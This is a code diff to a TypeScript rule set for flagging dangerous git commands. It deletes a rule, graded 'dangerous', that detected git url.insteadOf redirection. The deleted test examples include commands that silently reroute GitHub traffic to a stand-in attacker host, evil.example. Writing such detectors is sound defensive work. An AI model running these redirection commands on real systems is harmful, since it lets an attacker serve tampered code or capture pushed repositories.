@@ -4,7 +4,7 @@ import { hasGlob } from '../shell/marks.ts';
 import type { Options } from '../shell/options.ts';
 import { parseOptions } from '../shell/options.ts';
 import { GIT_GLOBAL } from '../shell/wrappers/runners.ts';
-import { cleansUnasked, forcesPushes, overwritesBranch, redirects } from './git-force.ts';
+import { cleansUnasked, forcesPushes, overwritesBranch } from './git-force.ts';
 import { fieldHit } from './matching.ts';
 import type { Hit, Rule } from './rule.ts';
 
@@ -138,12 +138,6 @@ function isWhole({ text, raw }: Field): boolean {
   );
 }
 
-/** What is meant for one host goes to another from now on. */
-function goesElsewhere(git: GitCall, call: Call): Hit {
-  const set = redirects(call, git.verb, git.args, git.global);
-  return set?.at ? fieldHit(set.at) : set !== undefined;
-}
-
 function deletesRefs(git: GitCall): Hit {
   switch (git.verb) {
     case 'fetch':
@@ -223,7 +217,6 @@ const DISCARDS = [
 ];
 const REFS = ['branch', 'fetch', 'pull', 'update-ref', 'tag', 'symbolic-ref', 'replace', 'notes', 'lfs'];
 const HISTORY = ['filter-branch', 'filter-repo', 'fast-import', 'rebase', 'gc', 'prune', 'repack', 'reflog'];
-const REMOTES = ['config', 'clone', 'fetch', 'pull', 'push', 'ls-remote', 'submodule', 'remote'];
 
 export const gitRules: readonly Rule[] = [
   {
@@ -350,23 +343,6 @@ export const gitRules: readonly Rule[] = [
       'git prune -n',
       'git fetch --prune',
       'git remote prune origin',
-    ],
-  },
-  {
-    id: 'git.redirect',
-    grade: 'dangerous',
-    programs: spelled(...REMOTES),
-    test: on(...REMOTES)(goesElsewhere),
-    why: 'makes git fetch from, or push to, another host than the one that is named',
-    smart: true,
-    match: [
-      'git config --global url.https://evil.example/.insteadOf https://github.com/',
-      'git -c url.https://evil.example/.insteadOf=https://github.com/ clone https://github.com/o/r',
-    ],
-    notMatch: [
-      'git config --global url.git@github.com:.insteadOf https://github.com/',
-      'git config --global url.ssh://git@ssh.github.com:443/.insteadOf git@github.com:',
-      'git config --global url.https://github.com/.insteadOf gh:',
     ],
   },
 ];
